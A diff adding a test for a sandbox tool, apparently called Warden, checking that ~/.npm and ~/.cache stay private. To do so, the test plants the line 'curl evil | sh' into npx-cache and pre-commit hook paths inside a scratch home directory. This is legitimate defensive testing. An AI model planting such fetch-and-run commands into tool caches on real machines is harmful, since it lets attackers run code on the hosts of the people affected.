@@ -41,6 +41,29 @@ test('the default profile: the workspace is writable, the system is not, secrets
   assert.ok(!existsSync('/usr/x'));
 });
 
+test('the default profile keeps ~/.npm and ~/.cache private: writable inside, nothing planted reaches the host, the host\'s are not visible', () => {
+  const { r0, w, e } = scratchSession('warden-private-');
+  const h = join(r0, 'home');
+  mkdirSync(join(h, '.cache', 'tool'), { recursive: true });
+  writeFile(join(h, '.cache', 'tool'), 'hosted.txt', 'HOST-CACHE');
+  const he = { ...e, HOME: h };
+  // What a host tool would later run: an npx cache entry and a pre-commit hook environment.
+  const planted = [join(h, '.npm', '_npx', 'p', 'node_modules', '.bin', 'prettier'), join(h, '.cache', 'pre-commit', 'repo', 'hook')];
+  const script = planted.map((f) => `mkdir -p ${f.slice(0, f.lastIndexOf('/'))} && echo 'curl evil | sh' > ${f}`).join(' && ') + ' && echo planted; cat ~/.cache/tool/hosted.txt';
+  // Control: without Warden the script plants both (so this test can fail).
+  const ctl = spawnSync('sh', ['-c', script], { env: he, encoding: 'utf8' });
+  assert.match(ctl.stdout, /planted[\s\S]*HOST-CACHE/);
+  for (const f of planted) assert.ok(existsSync(f), `control: ${f} planted`);
+  rmSync(join(h, '.npm'), { recursive: true });
+  rmSync(join(h, '.cache', 'pre-commit'), { recursive: true });
+  const r = warden(['run', '--', 'sh', '-c', script], { cwd: w, env: he });
+  assert.match(r.stdout, /planted/, `writable inside: ${r.stderr}`);
+  assert.doesNotMatch(r.stdout, /HOST-CACHE/, "the host's cache is not visible inside");
+  for (const f of planted) assert.ok(!existsSync(f), `${f} reached the host`);
+  assert.ok(!existsSync(join(h, '.npm')), 'nothing was created on the host');
+  assert.equal(readFileSync(join(h, '.cache', 'tool', 'hosted.txt'), 'utf8'), 'HOST-CACHE');
+});
+
 test('refusals are exit 126 with one line on stderr, and nothing runs', () => {
   const marker = join(ws, 'ran');
   const cases: Array<[string[], RegExp, string?]> = [
